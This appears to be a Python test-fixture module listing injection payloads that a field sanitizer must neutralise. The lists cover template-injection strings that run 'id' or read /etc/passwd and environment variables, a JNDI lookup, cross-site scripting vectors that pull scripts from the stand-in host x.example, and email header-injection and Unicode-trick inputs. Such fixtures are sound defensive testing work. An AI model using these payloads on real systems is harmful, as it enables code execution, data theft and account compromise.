"""What people who mean harm, or programs that test for it, write into fields: each must come out as plain words or be refused."""

TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{{ config.items() }}", "{{ self.__init__.__globals__ }}", "{{ request.environ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}", "{% for x in (1,2) %}x{% endfor %}", "{% import os %}",
    "{% include '/etc/passwd' %}", "{%- print(7*7) -%}", "{# comment #}", "{{ first_name | raw }}", "{{ first_name|attr('x') }}",
    "{{ 'a' | upper }}", "{{{ config }}}", "{{& config }}", "{{> partial }}", "{{#each this}}x{{/each}}", "{{ leave_url }}",
    "{% assign x = 7 | times: 7 %}{{ x }}", "{% render 'x' %}", "{{ _self.env.registerUndefinedFilterCallback('exec') }}",
    "{{ ['id'] | filter('system') }}", "<%= 7*7 %>", "<%= ENV.to_h %>", "<% system('id') %>", "${7*7}", "${env:PATH}",
    "${{7*7}}", "#{7*7}", "#{ENV['HOME']}", "*{7*7}", "@(7*7)", "[[${7*7}]]", "[# th:utext=\"${7*7}\" /]", "${jndi:ldap://x.example/a}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "#set($x=7*7)$x", "{php}phpinfo();{/php}", "<?php phpinfo(); ?>",
    "{0.__class__.__init__.__globals__}", "%(config)s", "%s%s%s%n", "{config}", "$HOME $(id) `id`", "%%style%%", "%%leave%%",
    "-x-", "%recipient%", "[unsubscribe]", "[%first_name%]", "<%asm_group_unsubscribe_raw_url%>", "*|UNSUB|*",
    "${{<%[%'\"}}%\\.", "{{constructor.constructor('alert(1)')()}}", "bsmt0e", "bsmt&#48;e", "bs<b>mt1e</b>",
)  # fmt: skip

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.example/a.js></ScRiPt>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", "<img src='x'/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<b onmouseover=alert(1)>x</b>", "<a href=x onclick=alert(1)>x</a>",
    "<iframe src=https://x.example/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset><frame src=//x.example></frameset>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=//x.example/a.swf>", "<applet code=x></applet>",
    "<form action=//x.example><input name=p><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>", "<style>@import '//x.example/a.css';</style>", "<style>body{background:url(//x.example/a)}</style>",
    "<p style='background:url(https://x.example/a)'>x</p>", "<p style='width:expression(alert(1))'>x</p>", "<p style='behavior:url(#x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVa&#x09;ScRiPt:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<textarea></textarea><img src=x onerror=alert(1)>", "<title></title><img src=x onerror=alert(1)>",
    "<p title='--><img src=x onerror=alert(1)>'>x</p>", "<!--><script>alert(1)</script>-->", "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "</title></style></td></table><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//x.example/a", "\\\\x.example\\a", "file:///etc/passwd",
    "![x](https://media.invalid/etc/passwd)", "[x](https://media.invalid/etc/passwd)", "[x](javascript:alert(1))", "![x](javascript:alert(1))", "<javascript:alert(1)>",
)  # fmt: skip

LETTERS = (
    "x\r\nBcc: victim@x.example\r\n\r\n<script>alert(1)</script>", "x\nX-Header: 1", "x%0d%0aBcc: victim@x.example", "x\u2028Bcc: a", "x\u0085y",
    "\u202ereversed\u202c", "\u2066isolated", "a\u200b\u200d\ufeffb", "\ufffe\uffff", "x\u0000y", "x\u001b[31my", "ＪＡＶＡＳＣＲＩＰＴ：ａｌｅｒｔ", "＜script＞alert(1)＜/script＞",
)  # fmt: skip

PAYLOADS = TEMPLATES + MARKUP + LETTERS
